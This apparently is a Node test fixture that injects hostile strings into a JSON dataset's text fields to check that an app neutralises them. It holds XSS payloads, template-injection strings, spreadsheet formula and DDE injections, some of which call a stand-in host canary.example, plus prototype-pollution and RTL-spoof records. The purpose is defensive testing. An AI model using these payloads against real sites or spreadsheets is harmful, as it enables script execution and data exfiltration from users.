/** The shipped dataset with every text in it made hostile: markup, scripts, formulas, template signs. Node only. */
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";

const ROOT = "public/data/weprotect";
/** Nobody answers there; whoever asks was made to. */
export const CANARY = "https://canary.example";
/** What all that runs would set: a test watches it. */
export const FLAG = "__ran";

const RUN = (name: string) => `window.${FLAG}='${name}'`;

/** What each text begins with, in turn. Each would run something somewhere, if it were taken for more than a text. */
export const PAYLOADS = [
  `<img src=x onerror="${RUN("img")}">`,
  `<script>${RUN("script")}</script>`,
  `"><svg onload="${RUN("svg")}">`,
  `' onmouseover='${RUN("attribute")}' autofocus onfocus='${RUN("focus")}' x='`,
  `</style></title></textarea></script><script>${RUN("ended")}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN("cdata")}</script>`,
  `<iframe srcdoc="<script>parent.${FLAG}='srcdoc'</script>"></iframe>`,
  `<object data="javascript:${RUN("object")}"></object><link rel=stylesheet href="${CANARY}/a.css">`,
  `<a href="javascript:${RUN("link")}">x</a><form action="javascript:${RUN("form")}"><button>`,
  `javascript:${RUN("address")}//`,
  `[x](javascript:${RUN("markdown")}) ![x](${CANARY}/a.png)`,
  `{{constructor.constructor("${RUN("template")}")()}} \${${RUN("literal")}} <%= ${FLAG} %>`,
  `&lt;script&gt;${RUN("entities")}&lt;/script&gt;`,
  `url(${CANARY}/b.png) }</style><style>*{background:url(${CANARY}/c.png)}`,
  `<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN("namespace")}</x:script>`,
  `=HYPERLINK("${CANARY}/?"&A1,"open")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=IMPORTXML("${CANARY}")`,
] as const;

/** The fields that hold texts: all others are ids, dates, words of a vocabulary, numbers and addresses. */
const TEXTS = new Set(
  "title headline description summary name label note says locator subject definition topic value comment unit publisher container-title family given literal archive aliases keywords changes subtitle notes text".split(
    " ",
  ),
);

/** Stands for lists in lists, which are written as text: deeper than what writes JSON can go. */
const DEEP = "a hundred thousand lists in each other";

let turn = 0;
const hostile = (text: string) => `${PAYLOADS[turn++ % PAYLOADS.length]} ${text}`;

function walk(value: unknown, key: string): unknown {
  if (Array.isArray(value)) return value.map((item) => walk(item, key));
  if (typeof value === "object" && value !== null) {
    return Object.fromEntries(Object.entries(value).map(([inner, item]) => [inner, walk(item, inner)]));
  }
  if (typeof value !== "string") return value;
  if (TEXTS.has(key)) return hostile(value);
  // An address that is one, with what would end an attribute.
  if (/^(url|path|homepage)$/i.test(key) && /^https?:/.test(value)) {
    return `${value}${value.includes("?") ? "&" : "?"}a="onmouseover="${RUN("address")}"'><script>${RUN("url")}</script>`;
  }
  return value;
}

interface File {
  [list: string]: Record<string, unknown>[];
}

/** Records that are refused: addresses that run, texts that deceive, keys that reach beyond the record. */
const REFUSED: Readonly<Record<string, (file: File) => void>> = {
  "sources.json": ({ sources = [] }) => {
    const [first] = sources;
    sources.push({ ...first, id: "refused-javascript", URL: `javascript:${RUN("source")}` });
    sources.push({ ...first, id: "refused-data", URL: `data:text/html,<script>${RUN("data")}</script>` });
  },
  "actors.json": ({ actors = [] }) => {
    const [first] = actors;
    // Its id is what every object has: it has to be looked up like any other.
    actors.push({ ...first, id: "constructor", name: "The constructor" });
    actors.push({ ...first, id: "refused-link", links: [{ label: "x", url: `javascript:${RUN("actor")}` }] });
    actors.push({ ...first, id: "refused-direction", name: "Ann\u202Egnp.exe" });
  },
  "events.json": ({ events = [] }) => {
    const [first] = events;
    events.push({ ...first, id: "constructor", title: "The construction" });
    // What is said of it in the report begins as a formula does.
    events.push({
      ...first,
      id: "refused-formula",
      title: PAYLOADS.find((text) => text.startsWith("=")),
      date: "soon",
    });
    events.push({ ...first, id: "refused-long", note: "x".repeat(100_000) });
    events.push({ ...first, id: "refused-deep", note: DEEP });
    events.push(
      JSON.parse(`{"__proto__": {"${FLAG}": true}, ${JSON.stringify({ ...first, id: "refused-key" }).slice(1)}`),
    );
  },
};

/** The files of the dataset by path, the descriptor with their sizes and hashes. */
export function hostileFiles(): Map<string, string> {
  turn = 0;
  const paths = readdirSync(ROOT, { recursive: true, encoding: "utf8" }).filter((path) => path.endsWith(".json"));
  const files = new Map<string, string>();
  for (const path of paths.map((one) => one.replaceAll("\\", "/"))) {
    const json = JSON.parse(readFileSync(join(ROOT, path), "utf8"));
    if (path === "history.json" || path === "datapackage.json") continue;
    const made = walk(json, "") as File;
    REFUSED[path]?.(made);
    files.set(path, JSON.stringify(made).replace(`"${DEEP}"`, `${"[".repeat(100_000)}${"]".repeat(100_000)}`));
  }
  const { resources, name, ...about } = JSON.parse(readFileSync(join(ROOT, "datapackage.json"), "utf8"));
  const described = resources.map((resource: { path: string; title: string }) => {
    const title = hostile(resource.title);
    const text = files.get(resource.path);
    if (text === undefined) return { ...resource, title };
    const hash = `sha256:${createHash("sha256").update(text).digest("hex")}`;
    return { ...resource, title, bytes: Buffer.byteLength(text), hash };
  });
  files.set("datapackage.json", JSON.stringify({ ...(walk(about, "") as object), name, resources: described }));
  return files;
}
